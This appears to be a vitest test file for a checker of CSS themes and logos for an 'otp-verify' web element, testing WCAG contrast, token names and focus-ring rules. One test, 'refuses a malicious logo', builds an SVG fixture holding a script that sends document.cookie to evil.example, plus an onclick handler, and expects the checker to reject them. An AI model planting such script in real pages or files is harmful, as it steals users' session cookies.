import { describe, expect, it } from 'vitest';
import { checkThemes, ELEMENT_TOKEN_SET } from '../src/index.js';
import { SAFE_LOGO, makeThemesDir, themeCss, themesDirWithTheme } from './support/theme-folders.js';

/** Every problem the check finds in a themes folder (each theme's problems name their brand). */
const problemsIn = async (themesDir: string) =>
  (await checkThemes(themesDir, ELEMENT_TOKEN_SET)).flatMap((result) => result.problems);
const problemsOf = async (css: string) => problemsIn(await themesDirWithTheme(css));

describe('the theme check, on fixture themes', () => {
  it('passes a theme that sets the required tokens and keeps the default colours, in light and dark', async () => {
    const [result] = await checkThemes(await themesDirWithTheme(themeCss()), ELEMENT_TOKEN_SET);
    expect(result?.problems).toEqual([]);
    expect(new Set(result?.contrast.map((row) => row.scheme))).toEqual(new Set(['light', 'dark']));
    expect(result?.contrast).toHaveLength(ELEMENT_TOKEN_SET.pairs.length * 2);
  });

  it('refuses a misspelt token, suggesting the right one', async () => {
    expect(await problemsOf(themeCss('\n  --otp-colour-brand: #d00;'))).toEqual([
      'fixture: theme.css line 6: unknown token --otp-colour-brand: did you mean --otp-color-brand?',
    ]);
  });

  it('refuses a theme without a required token', async () => {
    const css = themeCss().replace('--otp-radius: 8px;', '');
    expect(await problemsOf(css)).toEqual(['fixture: theme.css: required token --otp-radius is missing']);
  });

  // WCAG 2.2 SC 1.4.3 Contrast (Minimum): text needs 4.5:1.
  it('refuses text below 4.5:1 in the light scheme (SC 1.4.3)', async () => {
    const problems = await problemsOf(themeCss('\n  --otp-color-scheme: light;\n  --otp-color-ink: #777777;'));
    expect(problems).toContainEqual(
      expect.stringMatching(
        /^fixture \(light\): --otp-color-text on --otp-box-background is 4\.47:1, needs 4\.5:1 \(.+\)$/,
      ),
    );
    expect(problems.every((problem) => problem.startsWith('fixture (light): '))).toBe(true);
  });

  it('refuses text that passes in light but not in dark, through light-dark() (SC 1.4.3)', async () => {
    const problems = await problemsOf(themeCss('\n  --otp-color-muted: light-dark(#595959, #595959);'));
    expect(problems).toContainEqual(
      expect.stringMatching(/^fixture \(dark\): --otp-color-muted on --otp-box-background is 2\.\d+:1, needs 4\.5:1/),
    );
    expect(problems.filter((problem) => !problem.startsWith('fixture (dark): --otp-color-muted on '))).toEqual([]);
  });

  // WCAG 2.2 SC 1.4.11 Non-text Contrast: borders and the focus ring (SC 2.4.7 Focus Visible) need 3:1.
  it('refuses a focus ring below 3:1 against the box (SC 1.4.11, 2.4.7)', async () => {
    const problems = await problemsOf(themeCss('\n  --otp-color-scheme: light;\n  --otp-color-focus: #b0b0b0;'));
    expect(problems).toContainEqual(
      expect.stringMatching(/^fixture \(light\): --otp-color-focus on --otp-box-background is 2\.\d+:1, needs 3:1/),
    );
  });

  it('composites a translucent text colour over its background before measuring it', async () => {
    const problems = await problemsOf(themeCss('\n  --otp-color-scheme: light;\n  --otp-color-ink: rgb(0 0 0 / 40%);'));
    expect(problems).toContainEqual(
      expect.stringMatching(/^fixture \(light\): --otp-color-text on --otp-box-background is 2\.\d+:1, needs 4\.5:1/),
    );
  });

  it('refuses a colour it cannot resolve instead of passing it', async () => {
    const problems = await problemsOf(themeCss('\n  --otp-color-scheme: light;\n  --otp-color-danger: bluish;'));
    expect(problems).toContainEqual(
      expect.stringMatching(
        /^fixture \(light\): --otp-color-danger on --otp-box-background cannot be checked: "bluish" is not a colour/,
      ),
    );
  });

  // The element reads --_x: var(--otp-x, <default>), and the page sets no --otp-* variable: a theme value
  // referring to a token the theme does not set is invalid in the browser, which paints the default instead.
  it('measures what Chromium paints when a token refers to one the theme does not set: the default', async () => {
    const lime = '\n  --otp-color-scheme: light;\n  --otp-color-brand: #a3e635;\n  --otp-color-on-brand: #17260b;';
    const darkened = '\n  --otp-color-accent-text: color-mix(in srgb, var(--otp-color-accent) 40%, black);';
    const problems = await problemsOf(themeCss(lime + darkened));
    expect(problems).toContainEqual(
      'fixture: theme.css: --otp-color-accent-text is ignored by the browser, which uses its default: ' +
        '--otp-color-accent is not set (a token may refer to the tokens the theme sets and to --shop-* variables)',
    );
    expect(problems).toContainEqual(
      expect.stringMatching(
        /^fixture \(light\): --otp-color-accent-text on --otp-box-background is 1\.5\d*:1, needs 4\.5:1/,
      ),
    );
  });

  it('follows a token to another token the theme sets', async () => {
    const lime = '\n  --otp-color-scheme: light;\n  --otp-color-brand: #a3e635;\n  --otp-color-on-brand: #17260b;';
    const darkened = '\n  --otp-color-accent-text: color-mix(in srgb, var(--otp-color-brand) 40%, black);';
    expect(await problemsOf(themeCss(lime + darkened))).toEqual([]);
  });

  it('refuses a token referring to a variable nobody sets, which the browser ignores', async () => {
    expect(await problemsOf(themeCss('\n  --otp-color-danger: var(--brand-red);'))).toEqual([
      'fixture: theme.css: --otp-color-danger is ignored by the browser, which uses its default: ' +
        '--brand-red is not set (a token may refer to the tokens the theme sets and to --shop-* variables)',
    ]);
  });

  it('refuses a focus ring thinner than 2px, or not a length (SC 2.4.7)', async () => {
    for (const width of ['1px', '1.5px', '0', 'thin', 'calc(var(--otp-space) / 4)']) {
      expect(await problemsOf(themeCss(`\n  --otp-focus-ring-width: ${width};`))).toEqual([
        expect.stringMatching(/^fixture: theme\.css line 6: --otp-focus-ring-width: .+ at least 2px/),
      ]);
    }
    expect(await problemsOf(themeCss('\n  --otp-focus-ring-width: 2px;'))).toEqual([]);
  });

  it.each([
    ['normal', ['light']],
    ['light', ['light']],
    ['dark', ['dark']],
    ['light dark', ['light', 'dark']],
    ['dark light', ['light', 'dark']],
  ])('checks --otp-color-scheme: %s in the schemes the browser renders: %j', async (value, schemes) => {
    const page = ':root { color-scheme: dark; }';
    const [result] = await checkThemes(
      await themesDirWithTheme(themeCss(`\n  --otp-color-scheme: ${value};`, page)),
      ELEMENT_TOKEN_SET,
    );
    expect(result?.problems).toEqual([]);
    expect(new Set(result?.contrast.map((row) => row.scheme))).toEqual(new Set(schemes));
  });

  it.each(['purple', 'inherit', 'light-dark(light, dark)', 'light light'])(
    'refuses --otp-color-scheme: %s',
    async (value) => {
      expect(await problemsOf(themeCss(`\n  --otp-color-scheme: ${value};`))).toEqual([
        expect.stringMatching(
          /^fixture: theme\.css line 6: --otp-color-scheme: .+ is not light, dark, light dark, dark light or normal$/,
        ),
      ]);
    },
  );

  it('checks a page with color-scheme: normal in light only, as the browser renders it', async () => {
    const page = ':root { color-scheme: normal; --shop-bg: light-dark(#fff, #000); --shop-text: #333; }';
    const [result] = await checkThemes(await themesDirWithTheme(themeCss('', page)), ELEMENT_TOKEN_SET);
    expect(result?.problems).toEqual([]);
    expect(new Set(result?.contrast.map((row) => row.scheme))).toEqual(new Set(['light']));
  });

  it('refuses a foreign selector', async () => {
    expect(await problemsOf(themeCss('', 'body otp-verify { --otp-radius: 0; }'))).toEqual([
      expect.stringMatching(/^fixture: theme\.css line 7: selector "body otp-verify" is not allowed/),
    ]);
  });

  it('refuses @media (prefers-color-scheme), pointing to light-dark()', async () => {
    const css = themeCss('', '@media (prefers-color-scheme: dark) {\n  otp-verify { --otp-color-ink: #fff; }\n}');
    expect(await problemsOf(css)).toEqual([
      expect.stringMatching(
        /^fixture: theme\.css line 7: @media \(prefers-color-scheme: dark\) is not allowed: .*light-dark/,
      ),
    ]);
  });

  it('refuses a malicious logo', async () => {
    const logo = SAFE_LOGO.replace(
      '<rect',
      '<script>fetch("//evil.example/"+document.cookie)</script><rect onclick="x()"',
    );
    const themesDir = await makeThemesDir({ fixture: { 'theme.css': themeCss(), 'logo.svg': logo } });
    expect(await problemsIn(themesDir)).toEqual([
      'fixture: logo.svg: a <script> element is not allowed',
      'fixture: logo.svg: event handler attribute onclick="x()" on <rect>',
    ]);
  });

  it('checks the page variables a theme sets, in the page scheme', async () => {
    const page =
      ':root {\n  color-scheme: dark;\n  --shop-bg: #000000;\n  --shop-text: #333333;\n  --shop-muted: #999;\n}';
    expect(await problemsOf(themeCss('', page))).toEqual([
      expect.stringMatching(/^fixture \(dark\): --shop-text on --shop-bg is 1\.\d+:1, needs 4\.5:1 \(page text\)$/),
    ]);
  });

  it('lets a token refer to a page variable, as the element inherits them', async () => {
    const page = ':root { --shop-ink: #777777; }';
    const problems = await problemsOf(
      themeCss('\n  --otp-color-scheme: light;\n  --otp-color-ink: var(--shop-ink);', page),
    );
    expect(problems).toContainEqual(expect.stringContaining('--otp-color-text on --otp-box-background is 4.47:1'));
  });
});
